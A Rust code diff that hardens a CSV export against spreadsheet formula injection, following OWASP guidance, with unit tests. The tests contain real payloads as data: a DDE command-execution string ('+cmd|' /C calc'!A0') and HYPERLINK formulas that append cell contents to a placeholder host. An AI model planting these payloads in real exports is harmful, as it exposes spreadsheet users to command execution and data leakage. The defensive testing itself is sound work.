@@ -13,9 +13,23 @@ fn section_of<'a>(outline: &'a Outline, f: &Figure) -> (String, &'a str) {
     }
 }
 
+/// Whether a spreadsheet (Excel, WPS, LibreOffice) would read a cell as a formula: it starts,
+/// after any spaces, with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP, "CSV
+/// Injection"). Full-width forms (＝, ＋) are text to every spreadsheet.
+pub fn is_formula(cell: &str) -> bool {
+    cell.trim_start_matches(' ').starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// One CSV cell. A cell a spreadsheet would evaluate is made inert as OWASP recommends: a
+/// leading `'` (shown, so the text stays readable), and the cell quoted. Quotes inside are
+/// doubled; cells with separators or line ends are quoted.
 fn csv_field(out: &mut String, s: &str) {
-    if s.contains([',', '"', '\n', '\r']) {
+    let formula = is_formula(s);
+    if formula || s.contains([',', '"', '\n', '\r']) {
         out.push('"');
+        if formula {
+            out.push('\'');
+        }
         out.push_str(&s.replace('"', "\"\""));
         out.push('"');
     } else {
@@ -160,6 +174,79 @@ mod tests {
         let mut out = String::new();
         csv_field(&mut out, "a,\"b\"");
         assert_eq!(out, "\"a,\"\"b\"\"\"");
+    }
+
+    /// One cell as written into the CSV.
+    fn cell(s: &str) -> String {
+        let mut out = String::new();
+        csv_field(&mut out, s);
+        out
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_evaluate_are_made_inert() {
+        // The review's payloads: each becomes quoted text starting with ', still readable.
+        assert_eq!(
+            cell("=HYPERLINK(\"http://x\"&B2,\"点击查看详情\")"),
+            "\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"点击查看详情\"\")\""
+        );
+        assert_eq!(cell("+cmd|' /C calc'!A0"), "\"'+cmd|' /C calc'!A0\"");
+        assert_eq!(cell("@SUM(1+1)增长30%"), "\"'@SUM(1+1)增长30%\"");
+        assert_eq!(cell("-2+3"), "\"'-2+3\"");
+        assert_eq!(cell("\t=1"), "\"'\t=1\"");
+        assert_eq!(cell("\r=1"), "\"'\r=1\"");
+        assert_eq!(cell("  =1"), "\"'  =1\"", "spaces before a formula do not hide it");
+        // Ordinary text is left as it is.
+        assert_eq!(cell("武汉基金累计出资规模361亿元"), "武汉基金累计出资规模361亿元");
+        assert_eq!(cell("＝全角不是公式"), "＝全角不是公式");
+    }
+
+    #[test]
+    fn a_reply_written_to_attack_exports_inert_csv_and_exact_json() {
+        let r = crate::parse(
+            "答复\n一、第一部分\n=HYPERLINK(\"evil\"&B2)投入5亿元。\n@SUM(1+1)增长30%。\n-10%的降幅，+cmd增加3项。",
+        );
+        let outline = Outline::new(&r);
+        let all: Vec<usize> = (0..r.figures.len()).collect();
+        let csv = csv(&r, &outline, &all);
+        for line in csv.trim_end().split("\r\n").skip(1) {
+            for c in split_cells(line) {
+                assert!(!is_formula(&c), "cell {c:?} of {line:?} is inert");
+            }
+        }
+        let json = figures_json(&r, &outline, &all);
+        assert_eq!(r.figures.len(), 4);
+        for line in csv.trim_end().split("\r\n").skip(1) {
+            let context = split_cells(line).pop().unwrap_or_default();
+            assert!(context.starts_with('\''), "the clause {context:?} opens with a formula and is made inert");
+        }
+        assert!(
+            json.contains("\"context\":\"=HYPERLINK(\\\"evil\\\"&B2)投入5亿元\""),
+            "JSON keeps the text exactly: {json}"
+        );
+        assert!(json.contains("\"context\":\"@SUM(1+1)增长30%\""));
+    }
+
+    /// The cells of one CSV line, unquoted (RFC 4180), as a spreadsheet reads them.
+    pub(crate) fn split_cells(line: &str) -> Vec<String> {
+        let mut out = Vec::new();
+        let mut cur = String::new();
+        let mut quoted = false;
+        let mut chars = line.chars().peekable();
+        while let Some(c) = chars.next() {
+            match (quoted, c) {
+                (true, '"') if chars.peek() == Some(&'"') => {
+                    cur.push('"');
+                    chars.next();
+                }
+                (true, '"') => quoted = false,
+                (false, '"') if cur.is_empty() => quoted = true,
+                (false, ',') => out.push(std::mem::take(&mut cur)),
+                _ => cur.push(c),
+            }
+        }
+        out.push(cur);
+        out
     }
 
     #[test]
